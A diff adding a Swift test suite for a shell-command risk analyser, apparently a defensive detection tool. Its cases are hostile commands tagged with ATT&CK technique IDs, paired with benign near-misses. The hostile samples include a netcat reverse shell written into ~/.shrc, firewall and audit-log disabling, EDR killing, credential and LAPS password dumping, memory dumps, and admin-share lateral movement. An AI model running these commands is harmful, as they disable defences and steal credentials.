@@ -1,0 +1,161 @@
+import ShellAnalysis
+import Testing
+
+/// The detection rules added for the attack corpora's misses (firewall holes, history tampering,
+/// domain recon, security-software discovery, memory dumpers, hidden streams, admin shares…).
+/// Each rule has its plain case, the evasion we thought of (quoting, a variable, a wrapper, an
+/// alias, another spelling), and a benign near-miss that must stay quiet.
+@Suite struct DetectionRulesTests {
+    struct Case: Sendable, CustomStringConvertible {
+        var rule: String
+        var command: String
+        var dialect: ShellDialect = .bash
+        var atLeast: RiskLevel = .high
+        var technique: String? = nil
+        var description: String { "\(rule): \(command)" }
+    }
+
+    static let caught: [Case] = [
+        // `time` is a bash keyword, but it runs what follows as a wrapper does.
+        Case(rule: "shell through time", command: "time /bin/sh", technique: "T1059.004"),
+        Case(rule: "shell through time, quoted", command: #"time "/bin/sh""#, technique: "T1059.004"),
+        // History tampering.
+        Case(rule: "HISTCONTROL ignoreboth", command: "export HISTCONTROL=ignoreboth", technique: "T1562.003"),
+        Case(rule: "HISTCONTROL through env", command: "env HISTCONTROL=ignorespace bash", technique: "T1562.003"),
+        // Shell start-up files beyond bash's.
+        Case(rule: "~/.shrc appended", command: "echo 'nc 10.0.0.1 4444 -e /bin/sh' >> ~/.shrc", dialect: .sh, technique: "T1546.004"),
+        Case(rule: "~/.kshrc through tee and $HOME", command: #"printf 'x\n' | tee -a "$HOME/.kshrc""#, technique: "T1546.004"),
+        Case(rule: "BSD master.passwd read", command: "sudo cat /etc/master.passwd", dialect: .sh, technique: "T1003.008"),
+        Case(rule: "BSD master.passwd, quoted name", command: "c''at /etc/master.passwd", dialect: .sh, technique: "T1003.008"),
+        Case(rule: "macOS rc.common", command: "echo 'python3 /tmp/x.py' | sudo tee -a /etc/rc.common", technique: "T1037.004"),
+        // Firewalls.
+        Case(rule: "iptables rule deleted", command: "iptables -D INPUT -p tcp --dport 22 -j DROP", dialect: .sh, technique: "T1562.004"),
+        Case(rule: "iptables rule deleted, long option, sudo", command: "sudo iptables --delete INPUT 1", dialect: .sh, technique: "T1562.004"),
+        Case(rule: "ufw rule deleted", command: "sudo ufw delete 3", dialect: .sh, technique: "T1562.004"),
+        Case(rule: "ufw logging off", command: "ufw logging off", dialect: .sh, technique: "T1562.004"),
+        Case(rule: "pf disabled", command: "pfctl -d", dialect: .sh, technique: "T1562.004"),
+        Case(rule: "pf flushed through sudo", command: "sudo pfctl -F all", dialect: .sh, technique: "T1562.004"),
+        Case(rule: "pf service stopped", command: "service pf stop", dialect: .sh, technique: "T1562.004"),
+        Case(rule: "ufw rules edited by hand", command: #"echo "-A ufw-user-input -j ACCEPT" >> /etc/ufw/user.rules"#, dialect: .sh, technique: "T1562.004"),
+        Case(rule: "ufw rules edited through tee", command: "echo x | sudo tee -a /etc/default/ufw", dialect: .sh, technique: "T1562.004"),
+        Case(rule: "New-NetFirewallRule, default action Allow", command: "New-NetFirewallRule -DisplayName x -Direction Inbound -LocalPort 3389 -Protocol TCP", dialect: .powershell, technique: "T1562.004"),
+        Case(rule: "New-NetFirewallRule, -Action:Allow", command: "New-NetFirewallRule -DisplayName x -Action:Allow", dialect: .powershell, technique: "T1562.004"),
+        Case(rule: "netsh allow rule", command: "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=450", dialect: .cmd, technique: "T1562.004"),
+        Case(rule: "netsh rule group switched on, odd case", command: #"NETSH AdvFirewall Firewall Set Rule group="remote desktop" new enable=Yes"#, dialect: .cmd, technique: "T1562.004"),
+        Case(rule: "firewall policy in the registry", command: #"reg add "HKLM\SOFTWARE\Policies\Microsoft\WindowsFirewall\DomainProfile" /v EnableFirewall /t REG_DWORD /d 0 /f"#, dialect: .cmd, technique: "T1562.004"),
+        Case(rule: "firewall policy through a PowerShell drive", command: #"New-ItemProperty "HKLM:\SOFTWARE\Policies\Microsoft\WindowsFirewall\StandardProfile" -Name EnableFirewall -PropertyType DWORD -Value 0 -Force"#, dialect: .powershell, technique: "T1562.004"),
+        // Logging switched off.
+        Case(rule: "command-line auditing off", command: #"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Policies\System\Audit /v ProcessCreationIncludeCmdLine_Enabled /t REG_DWORD /d 0 /f"#, dialect: .cmd, technique: "T1562.003"),
+        Case(rule: "event log channel access", command: #"Set-ItemProperty -Path HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels\Microsoft-Windows-TaskScheduler/Operational -Name ChannelAccess -Value x"#, dialect: .powershell, technique: "T1562.002"),
+        Case(rule: "IIS request log off", command: #"C:\Windows\System32\inetsrv\appcmd.exe set config "Default Web Site" /section:httplogging /dontLog:true"#, dialect: .cmd, technique: "T1562.002"),
+        Case(rule: "AWS Config recorder stopped", command: "aws configservice stop-configuration-recorder --configuration-recorder-name default", dialect: .sh, technique: "T1562.008"),
+        // Decoding.
+        Case(rule: "hex decoded with xxd", command: "echo 6869 | xxd -r -p", dialect: .sh, atLeast: .medium, technique: "T1140"),
+        Case(rule: "hex decoded with xxd's long option", command: "xxd -revert -p payload.hex", dialect: .sh, atLeast: .medium, technique: "T1140"),
+        // Security software discovery and tampering.
+        Case(rule: "several EDR processes searched for", command: "ps aux | egrep 'falcond|osqueryd|auditbeat'", dialect: .sh, technique: "T1518.001"),
+        Case(rule: "several EDR processes through pgrep", command: "pgrep -l 'wazuh-agent|cbagentd'", dialect: .sh, technique: "T1518.001"),
+        Case(rule: "EDR killed", command: "pkill -9 falcon-sensor", dialect: .sh, technique: "T1562.001"),
+        Case(rule: "EDR killed through sudo killall", command: "sudo killall osqueryd", dialect: .sh, technique: "T1562.001"),
+        Case(rule: "antivirus processes searched for in PowerShell", command: #"Get-Process | ?{$_.Description -like "*virus*"}; Get-Process | ?{$_.ProcessName -like "*sysmon*"}"#, dialect: .powershell, technique: "T1518.001"),
+        Case(rule: "antivirus processes searched for with tasklist", command: #"tasklist | findstr /i "MsMpEng.exe CSFalconService.exe""#, dialect: .cmd, technique: "T1518.001"),
+        Case(rule: "Security Center asked for antivirus products", command: "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntiVirusProduct", dialect: .powershell, technique: "T1518.001"),
+        Case(rule: "Security Center through wmic", command: #"wmic.exe /Namespace:\\root\SecurityCenter2 Path AntiVirusProduct Get displayName"#, dialect: .cmd, technique: "T1518.001"),
+        // Domain recon.
+        Case(rule: "domain admins listed", command: #"net group "Domain Admins" /domain"#, dialect: .cmd, technique: "T1069.002"),
+        Case(rule: "enterprise admins through net1", command: #"net1 group "enterprise admins" /domain"#, dialect: .cmd, technique: "T1069.002"),
+        Case(rule: "domain admins through the AD module", command: #"Get-ADGroupMember -Identity "Domain Admins""#, dialect: .powershell, technique: "T1069.002"),
+        Case(rule: "domain trusts", command: "nltest /domain_trusts", dialect: .cmd, technique: "T1482"),
+        Case(rule: "domain trusts, other spelling", command: "nltest.exe /trusted_domains", dialect: .cmd, technique: "T1482"),
+        Case(rule: "domain trusts through .NET", command: "([System.DirectoryServices.ActiveDirectory.Domain]::GetCurrentDomain()).GetAllTrustRelationships()", dialect: .powershell, technique: "T1482"),
+        Case(rule: "AS-REP roastable accounts", command: "Get-ADUser -Filter * -Properties DoesNotRequirePreAuth | Where-Object {$_.DoesNotRequirePreAuth}", dialect: .powershell, technique: "T1558.004"),
+        Case(rule: "AS-REP roastable accounts by flag value", command: #"Get-ADUser -LDAPFilter "(userAccountControl:1.2.840.113556.1.4.803:=4194304)""#, dialect: .powershell, technique: "T1558.004"),
+        Case(rule: "LAPS passwords", command: "Get-ADComputer web01 -Properties ms-Mcs-AdmPwd", dialect: .powershell, technique: "T1555"),
+        Case(rule: "LAPS passwords, new cmdlet", command: "Get-LapsADPassword -Identity web01", dialect: .powershell, technique: "T1555"),
+        // Credentials.
+        Case(rule: "registry searched for passwords", command: "reg query HKLM /f password /t REG_SZ /s", dialect: .cmd, technique: "T1552.002"),
+        Case(rule: "registry searched for passwords, upper case", command: "REG QUERY HKCU /F PASSWD /S", dialect: .cmd, technique: "T1552.002"),
+        Case(rule: "PuTTY sessions read", command: #"reg query HKCU\Software\SimonTatham\PuTTY\Sessions /t REG_SZ /s"#, dialect: .cmd, technique: "T1552.002"),
+        Case(rule: "files searched for passwords", command: #"Select-String -Path C:\inetpub\*.config -Pattern password"#, dialect: .powershell, technique: "T1552.001"),
+        Case(rule: "files searched for passwords, alias", command: "sls -Pattern pwd *.xml", dialect: .powershell, technique: "T1552.001"),
+        Case(rule: "Credential Manager listed", command: #"vaultcmd /listcreds:"Windows Credentials" /all"#, dialect: .cmd, technique: "T1555.004"),
+        Case(rule: "Credential Manager listed, dash and .exe", command: #"VaultCmd.exe -listcreds:"Web Credentials""#, dialect: .cmd, technique: "T1555.004"),
+        Case(rule: "IIS app pool passwords", command: "appcmd list apppool /text:*", dialect: .cmd, technique: "T1552.001"),
+        Case(rule: "process memory dumped by rdrleakdiag", command: #"rdrleakdiag.exe /p 832 /o C:\Temp /fullmemdmp /wait 1"#, dialect: .cmd, technique: "T1003.001"),
+        Case(rule: "process memory dumped by createdump", command: #"createdump.exe -n -f C:\Temp\d.dmp 1234"#, dialect: .cmd, technique: "T1003.001"),
+        Case(rule: "process memory dumped by DumpMinitool, by path", command: #"C:\Tools\DumpMinitool.exe --file x --processId 1 --dumpType Full"#, dialect: .powershell, technique: "T1003.001"),
+        Case(rule: "AD database snapshot", command: #"dsdbutil.exe "activate instance ntds" "snapshot" "create" "quit" "quit""#, dialect: .cmd, technique: "T1003.003"),
+        // Persistence.
+        Case(rule: "shim database installed", command: #"sdbinst.exe C:\x\shim.sdb"#, dialect: .cmd, technique: "T1546.011"),
+        Case(rule: "Excel start-up folder", command: #"Copy-Item C:\x\a.xlam "$env:APPDATA\Microsoft\Excel\XLSTART\a.xlam""#, dialect: .powershell, technique: "T1137.006"),
+        Case(rule: "Startup folder through %APPDATA% (a Windows profile path)", command: #"copy evil.lnk "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\evil.lnk""#, dialect: .cmd, technique: "T1547.001"),
+        // Hiding and moving.
+        Case(rule: "output into an alternate data stream", command: #"echo payload > C:\Users\Public\file.txt:hidden.bat"#, dialect: .cmd, technique: "T1564.004"),
+        Case(rule: "input from an alternate data stream", command: #"cmd.exe - < C:\Users\Public\file.txt:payload.bat"#, dialect: .cmd, technique: "T1564.004"),
+        Case(rule: "timestomp in PowerShell", command: #"Get-ChildItem x.txt | % { $_.CreationTime = "01/01/1970 00:00:00" }"#, dialect: .powershell, technique: "T1070.006"),
+        Case(rule: "timestomp in PowerShell, no spaces, UTC", command: "$f.LastWriteTimeUtc=$d", dialect: .powershell, technique: "T1070.006"),
+        Case(rule: "timestomp on macOS", command: "SetFile -m 01/01/1970 /tmp/x", dialect: .sh, technique: "T1070.006"),
+        Case(rule: "admin share listed", command: #"dir \\10.0.0.5\C$"#, dialect: .cmd, technique: "T1021.002"),
+        Case(rule: "program copied to ADMIN$", command: #"copy x.exe \\fileserver\ADMIN$\x.exe"#, dialect: .cmd, technique: "T1021.002"),
+        Case(rule: "output redirected to ADMIN$", command: #"hostname 1> \\127.0.0.1\ADMIN$\out.txt 2>&1"#, dialect: .cmd, technique: "T1021.002"),
+        Case(rule: "cloud attack tool", command: "./stratus detonate aws.defense-evasion.cloudtrail-stop", dialect: .sh, technique: "T1578"),
+    ]
+
+    @Test(arguments: caught)
+    func isCaught(_ c: Case) throws {
+        let a = try Analyser.bundled().get().analyse(c.command, dialect: c.dialect)
+        #expect(a.risk >= c.atLeast, "\(c.rule): `\(c.command)` was \(a.risk): \(a.summary)")
+        if let t = c.technique {
+            #expect(a.techniques.contains(t), "\(c.rule): expected \(t) in \(a.techniques)")
+        }
+        // Every finding says, in words, what it means.
+        #expect(a.findings.allSatisfy { !$0.reason.isEmpty })
+    }
+
+    /// Near-misses: the everyday version of each rule's command stays where it was.
+    static let nearMisses: [Case] = [
+        Case(rule: "time on an ordinary command", command: "time ls -la", atLeast: .low),
+        Case(rule: "HISTCONTROL without ignorespace", command: "export HISTCONTROL=ignoredups", atLeast: .low),
+        Case(rule: "reading a start-up file", command: "cat ~/.shrc", dialect: .sh, atLeast: .low),
+        Case(rule: "the public account list", command: "cat /etc/passwd", dialect: .sh, atLeast: .low),
+        Case(rule: "adding a firewall rule", command: "iptables -A INPUT -p tcp --dport 22 -j ACCEPT", dialect: .sh, atLeast: .medium),
+        Case(rule: "firewall status", command: "ufw status", dialect: .sh, atLeast: .low),
+        Case(rule: "showing pf rules", command: "pfctl -s rules", dialect: .sh, atLeast: .medium),
+        Case(rule: "reading the ufw rules", command: "cat /etc/ufw/user.rules", dialect: .sh, atLeast: .low),
+        Case(rule: "blocking firewall rule", command: "New-NetFirewallRule -DisplayName x -Action Block -RemoteAddress 10.0.0.9", dialect: .powershell, atLeast: .medium),
+        Case(rule: "showing firewall rules", command: "netsh advfirewall firewall show rule name=all", dialect: .cmd, atLeast: .medium),
+        Case(rule: "reading the firewall policy", command: #"reg query "HKLM\SOFTWARE\Policies\Microsoft\WindowsFirewall" /s"#, dialect: .cmd, atLeast: .low),
+        Case(rule: "a hex dump", command: "xxd file.bin", dialect: .sh, atLeast: .low),
+        Case(rule: "ordinary processes searched for", command: #"ps aux | grep -E "nginx|postgres|reset""#, dialect: .sh, atLeast: .low),
+        Case(rule: "one security agent checked", command: "pgrep -l falcon", dialect: .sh, atLeast: .low),
+        Case(rule: "an application killed", command: "pkill -f gunicorn", dialect: .sh, atLeast: .medium),
+        Case(rule: "one process searched for in PowerShell", command: "Get-Process | Where-Object { $_.Name -like '*chrome*' }", dialect: .powershell, atLeast: .low),
+        Case(rule: "local administrators", command: "net localgroup administrators", dialect: .cmd, atLeast: .low),
+        Case(rule: "a domain controller located", command: "nltest /dsgetdc:corp.example.com", dialect: .cmd, atLeast: .low),
+        Case(rule: "one user's logon date", command: "Get-ADUser alice -Properties LastLogonDate", dialect: .powershell, atLeast: .low),
+        Case(rule: "one computer", command: "Get-ADComputer web01", dialect: .powershell, atLeast: .low),
+        Case(rule: "a registry value read", command: #"reg query HKLM\Software\Microsoft\Windows\CurrentVersion /v ProgramFilesDir"#, dialect: .cmd, atLeast: .low),
+        Case(rule: "a log searched for errors", command: "Select-String -Path app.log -Pattern error", dialect: .powershell, atLeast: .low),
+        Case(rule: "vaults listed", command: "vaultcmd /list", dialect: .cmd, atLeast: .medium),
+        Case(rule: "IIS sites listed", command: "appcmd list sites", dialect: .cmd, atLeast: .medium),
+        Case(rule: "rdrleakdiag's help", command: "rdrleakdiag.exe /?", dialect: .cmd, atLeast: .medium),
+        Case(rule: "Excel start-up folder listed", command: #"Get-ChildItem $env:APPDATA\Microsoft\Excel\XLSTART"#, dialect: .powershell, atLeast: .low),
+        Case(rule: "an ordinary file written", command: #"echo hi > C:\Temp\notes.txt"#, dialect: .cmd, atLeast: .low),
+        Case(rule: "file times compared", command: "Get-ChildItem | Where-Object { $_.LastWriteTime -lt (Get-Date) }", dialect: .powershell, atLeast: .low),
+        Case(rule: "Stratus's list of techniques", command: "stratus list", dialect: .sh, atLeast: .low),
+        Case(rule: "AWS Config described", command: "aws configservice describe-configuration-recorders", dialect: .sh, atLeast: .low),
+        Case(rule: "a file hidden on macOS", command: "SetFile -a V /tmp/x", dialect: .sh, atLeast: .medium),
+    ]
+
+    @Test(arguments: nearMisses)
+    func nearMissStaysQuiet(_ c: Case) throws {
+        let a = try Analyser.bundled().get().analyse(c.command, dialect: c.dialect)
+        #expect(a.risk <= c.atLeast, "\(c.rule): `\(c.command)` was \(a.risk): \(a.summary)")
+    }
+
+    /// `IPC$` carries no files: it is not an administrative file share.
+    @Test func ipcIsNoAdminShare() throws {
+        let a = try Analyser.bundled().get().analyse(#"net use \\fileserver\IPC$"#, dialect: .cmd)
+        #expect(!a.findings.contains { $0.reason.contains("administrative share") }, "\(a.findings)")
+    }
+}
